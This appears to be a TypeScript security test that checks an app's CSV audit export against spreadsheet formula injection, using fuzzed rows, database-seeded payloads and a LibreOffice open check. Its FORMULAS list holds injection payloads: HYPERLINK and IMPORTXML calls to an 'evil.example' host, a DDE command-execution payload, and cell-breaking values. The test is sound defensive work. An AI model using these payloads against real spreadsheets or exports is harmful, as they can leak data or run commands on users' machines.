import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';

import fc from 'fast-check';

import { csvText } from '@/lib/domain/shared/csv';

import { isLong, runAttack, type Attempt } from './support/attack';
import { ask } from './support/http';
import { asOwner, clientAt, cookieOf } from './support/target';
import { hasTool, runTool } from './support/tool';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","Click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example")',
  '=1+1","=2+2',
  '"\r\n=1+1',
];

/** The cells of a CSV as a spreadsheet reads them (RFC 4180): quoted ones whole, others to the next comma or line. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n][^,\r\n]*)?)(?:,|\r\n)/gs);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

await runAttack('A-19', async (attack) => {
  const runs = isLong() ? 20_000 : 1_000;
  const drawn = fc.sample(
    fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...FORMULAS)), {
      minLength: 1,
      maxLength: 4,
    }),
    runs,
  );
  attack.attempts(
    'no drawn cell begins a formula, and each row has its cells',
    drawn.map((row, index): Attempt => {
      const cells = cellsOf(csvText([row]));
      const bad = cells.find(isFormula);
      const problem = bad ?? (cells.length === row.length ? null : `${cells.length} cells`);
      return { name: `row ${index}`, problem };
    }),
    { atLeast: runs },
  );
  const { clientId } = clientAt('a', 'new');
  const owner = await cookieOf('a', 'owner');
  const exported: Attempt[] = [];
  let last = '';
  for (const name of FORMULAS) {
    await asOwner('UPDATE client SET name = $1 WHERE id = $2', [name, clientId]);
    const { status, text } = await ask({
      path: `/api/audit?format=csv&client=${clientId}`,
      cookie: owner,
    });
    const bad = cellsOf(text).find(isFormula);
    exported.push({
      name,
      problem: status !== 200 ? `status ${status}` : bad === undefined ? null : `cell ${bad}`,
    });
    last = text;
  }
  attack.attempts('no cell of an exported file is a formula', exported, {
    atLeast: FORMULAS.length,
  });
  await asOwner("UPDATE client SET name = 'Erik Svensson' WHERE id = $1", [clientId]);
  if (!hasTool('soffice')) return attack.notRun('opened in LibreOffice', 'not installed');
  const file = path.join(tmpdir(), 'fascicle-a-19.csv');
  await writeFile(file, last);
  const { output } = await runTool(
    'soffice',
    ['--headless', '--convert-to', 'html', '--outdir', tmpdir(), file],
    {
      milliseconds: 120_000,
    },
  );
  attack.check('LibreOffice opens it', {
    value: output.slice(0, 80),
    isMet: /convert/.test(output),
  });
});
